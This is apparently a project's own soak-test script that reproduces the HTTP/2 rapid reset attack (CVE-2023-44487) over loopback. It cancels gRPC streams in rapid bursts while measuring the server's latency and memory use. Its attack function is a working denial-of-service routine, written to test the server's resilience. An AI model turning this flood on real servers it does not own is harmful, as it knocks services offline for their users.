#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a running mha_server, by hand: one connection opens MultiHeadAttention
streams and cancels each at once, as fast as it can, for --seconds; meanwhile a GetServerInfo call on another
connection each second reports its latency, and the server's RSS is read from /proc/PID/status.

    python3 tests/soak/rapid_reset.py --port PORT --pid PID --seconds 10

Needs python3-h2 and python3-grpcio (Debian packages). Loopback only. docs/SECURITY.md has the figures.
"""

import argparse
import os
import socket
import sys
import tempfile
import threading
import time

import grpc
import h2.config
import h2.connection
import h2.errors

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "client", "python"))
import mhaclient  # noqa: E402


def rss_mib(pid):
    with open("/proc/%d/status" % pid) as f:
        return next(int(line.split()[1]) // 1024 for line in f if line.startswith("VmRSS:"))


def attack(port, stop, opened):
    sock = socket.create_connection(("127.0.0.1", port))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    headers = [(":method", "POST"), (":scheme", "http"), (":path", "/mha.v1.Attention/MultiHeadAttention"),
               (":authority", "127.0.0.1"), ("content-type", "application/grpc"), ("te", "trailers")]
    with sock:
        while not stop.is_set():
            for _ in range(100):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers)
                conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                opened[0] += 1
            try:
                sock.sendall(conn.data_to_send())
                while True:
                    received = sock.recv(1 << 16)
                    if not received:
                        print("the server closed the connection")
                        return
                    conn.receive_data(received)
            except BlockingIOError:
                pass
            except OSError as error:
                print("the connection ended:", error)
                return


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--pid", type=int, required=True, help="the server's, for its RSS")
    parser.add_argument("--seconds", type=float, default=10)
    args = parser.parse_args()
    sys.path.insert(0, mhaclient.generate_stubs(tempfile.mkdtemp(prefix="mha-stubs-")))
    from mha.v1 import attention_pb2 as pb
    from mha.v1 import attention_pb2_grpc as pbg

    stop, opened = threading.Event(), [0]
    thread = threading.Thread(target=attack, args=(args.port, stop, opened))
    thread.start()
    worst = 0.0
    with grpc.insecure_channel("127.0.0.1:%d" % args.port) as channel:
        stub = pbg.AttentionStub(channel)
        start = time.monotonic()
        while time.monotonic() - start < args.seconds:
            began = time.monotonic()
            try:
                stub.GetServerInfo(pb.GetServerInfoRequest(), timeout=10)
                latency = "%.3f s" % (time.monotonic() - began)
                worst = max(worst, time.monotonic() - began)
            except grpc.RpcError as error:
                latency, worst = str(error.code()), float("inf")
            print("t=%.0f s  rss=%d MiB  streams=%d  GetServerInfo %s" % (
                time.monotonic() - start, rss_mib(args.pid), opened[0], latency), flush=True)
            time.sleep(1)
    stop.set()
    thread.join()
    print("worst GetServerInfo: %s" % ("failed" if worst == float("inf") else "%.3f s" % worst))


if __name__ == "__main__":
    main()
